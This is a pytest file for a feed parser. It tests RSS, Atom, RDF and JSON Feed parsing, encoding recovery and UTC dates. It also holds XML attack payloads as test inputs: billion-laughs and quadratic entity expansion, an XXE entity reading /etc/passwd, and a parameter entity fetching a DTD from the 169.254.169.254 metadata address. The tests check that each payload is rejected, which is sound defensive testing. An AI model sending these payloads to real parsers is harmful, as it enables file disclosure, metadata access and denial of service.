"""Parsing (collector.parse): formats, encodings, UTC dates, and XML that must never expand."""

from __future__ import annotations

import json
from datetime import UTC, datetime

import pytest

from collector.errors import FeedParseError
from collector.normalize import normalize_entry
from collector.parse import parse_feed

DUTCH_TITLE = "Één café in Zeeuws-Vlaanderen: geüpdatete regels voor ’s avonds"


def rss(title: str = DUTCH_TITLE, encoding_decl: str = "utf-8", pub: str = "Wed, 08 Jan 2020 06:06:21 +0100") -> str:
    return (
        f'<?xml version="1.0" encoding="{encoding_decl}"?><rss version="2.0"><channel><title>Feed</title>'
        f"<language>nl-nl</language><item><guid>g1</guid><title>{title}</title><link>https://a.test/1</link>"
        f"<description>&lt;p&gt;{title}&lt;/p&gt;</description><pubDate>{pub}</pubDate></item></channel></rss>"
    )


def test_opaque_guids_are_kept_as_written():
    [entry] = parse_feed(rss().encode(), {}, "https://feeds.a.test/rss").entries
    assert entry.guid == "g1"  # not "https://feeds.a.test/g1": identity must not depend on the feed URL


def test_rss_entry_fields_and_utc_dates():
    feed = parse_feed(rss().encode("utf-8"), {"content-type": "application/rss+xml; charset=utf-8"}, "https://a.test/rss")
    assert feed.format == "rss20" and feed.language == "nl-nl"
    [entry] = feed.entries
    assert entry.guid == "g1" and entry.link == "https://a.test/1" and entry.title == DUTCH_TITLE
    assert entry.summary_is_html and "<p>" in entry.summary
    assert entry.published_at == datetime(2020, 1, 8, 5, 6, 21, tzinfo=UTC)


def test_atom_and_rdf_are_read():
    atom = (
        '<feed xmlns="http://www.w3.org/2005/Atom"><title>A</title><entry><id>urn:x:1</id><title>Één</title>'
        '<link href="/a/1"/><updated>2026-03-01T10:00:00+02:00</updated><content type="html">&lt;b&gt;x&lt;/b&gt;</content>'
        "</entry></feed>"
    )
    feed = parse_feed(atom.encode(), {"content-type": "application/atom+xml"}, "https://b.test/feed.atom")
    [entry] = feed.entries
    assert feed.format == "atom10" and entry.guid == "urn:x:1"
    assert normalize_entry(entry, "https://b.test/feed.atom").url == "https://b.test/a/1"
    assert entry.updated_at == datetime(2026, 3, 1, 8, 0, tzinfo=UTC) and entry.content_is_html
    rdf = (
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/">'
        '<channel rdf:about="https://c.test/"><title>C</title></channel>'
        '<item rdf:about="https://c.test/1"><title>Een</title><link>https://c.test/1</link></item></rdf:RDF>'
    )
    assert parse_feed(rdf.encode()).format == "rss10"


def test_json_feed_1_1():
    doc = {
        "version": "https://jsonfeed.org/version/1.1", "title": "J", "language": "nl",
        "items": [
            {"id": 7, "url": "https://j.test/7", "title": DUTCH_TITLE, "content_html": "<p>tekst</p>",
             "date_published": "2026-01-02T14:00:00-07:00", "authors": [{"name": "Joke"}]},
            {"id": "no-date", "content_text": "alleen tekst", "date_published": "not a date", "title": ["wrong"]},
            "not an object",
        ],
    }
    feed = parse_feed(json.dumps(doc, ensure_ascii=False).encode("utf-8"), {"content-type": "application/feed+json"})
    assert feed.format == "json11" and feed.language == "nl"
    first, second = feed.entries
    assert (first.guid, first.title, first.author) == ("7", DUTCH_TITLE, "Joke")
    assert first.published_at == datetime(2026, 1, 2, 21, 0, tzinfo=UTC) and first.content_is_html
    assert (second.guid, second.title, second.published_at, second.content) == ("no-date", "", None, "alleen tekst")


@pytest.mark.parametrize(
    "body", [b"{not json", b'{"version": "https://example.org/not-jsonfeed", "items": []}', b"[1, 2]"]
)
def test_bad_json_is_a_parse_error(body):
    with pytest.raises(FeedParseError):
        parse_feed(body, {"content-type": "application/json"})


def test_a_utf8_feed_served_as_latin1_keeps_its_diacritics():
    body = rss().encode("utf-8")
    for header in ("text/xml; charset=iso-8859-1", "application/xml; charset=windows-1252", "text/xml; charset=us-ascii"):
        [entry] = parse_feed(body, {"content-type": header}).entries
        assert entry.title == DUTCH_TITLE, header


def test_a_cp1252_feed_that_claims_utf8_keeps_its_diacritics():
    title = "Café ‘De Één’ – geüpdatet"
    body = rss(title).encode("cp1252")
    [entry] = parse_feed(body, {"content-type": "text/xml; charset=utf-8"}).entries
    assert entry.title == title


def test_latin1_declared_in_the_xml_prolog_is_honoured():
    title = "Geüpdatet: één café"
    body = rss(title, encoding_decl="iso-8859-1").encode("iso-8859-1")
    [entry] = parse_feed(body, {"content-type": "application/rss+xml"}).entries
    assert entry.title == title


def test_utf16_with_bom():
    [entry] = parse_feed(rss().replace('encoding="utf-8"', 'encoding="utf-16"').encode("utf-16")).entries
    assert entry.title == DUTCH_TITLE


BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">' for i in range(1, 10))
    + ']><rss version="2.0"><channel><title>&lol9;</title></channel></rss>'
)
XXE = (
    '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    '<rss version="2.0"><channel><title>&xxe;</title><item><title>&xxe;</title></item></channel></rss>'
)
PARAMETER_ENTITY = (
    '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://169.254.169.254/evil.dtd">%remote;]>'
    '<rss version="2.0"><channel><title>x</title></channel></rss>'
)
QUADRATIC = (
    '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "' + "a" * 10_000 + '">]>'
    '<rss version="2.0"><channel><title>' + "&a;" * 10_000 + "</title></channel></rss>"
)


@pytest.mark.parametrize(
    "document",
    [
        BILLION_LAUGHS.encode(),
        XXE.encode(),
        PARAMETER_ENTITY.encode(),
        QUADRATIC.encode(),
        BILLION_LAUGHS.replace('encoding="', "").encode("utf-16"),
        BILLION_LAUGHS.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="utf-7"?>').encode("utf-7"),
    ],
    ids=["billion-laughs", "xxe", "parameter-entity", "quadratic-blowup", "utf16", "utf7"],
)
def test_entity_tricks_fail_cleanly(document):
    with pytest.raises(FeedParseError, match="entit|unsafe XML"):
        parse_feed(document, {"content-type": "application/xml"})


def test_a_body_that_looks_like_a_file_name_is_never_opened(tmp_path):
    secret = tmp_path / "secret.xml"
    secret.write_text(rss("SECRET"))
    with pytest.raises(FeedParseError, match="not a feed"):
        parse_feed(str(secret).encode())


@pytest.mark.parametrize(
    "body", [b"<html><head><title></title></head><body><p>Geen feed</p></body></html>", b"   ", b"\x00\x01binary"]
)
def test_things_that_are_not_feeds(body):
    with pytest.raises(FeedParseError):
        parse_feed(body, {"content-type": "text/html"})


def test_ill_formed_feeds_are_still_read():
    broken = rss().replace("</channel></rss>", "<item><title>unclosed & stray</title></item>")
    feed = parse_feed(broken.encode("utf-8"))
    assert [e.title for e in feed.entries][0] == DUTCH_TITLE
    assert feed.warning
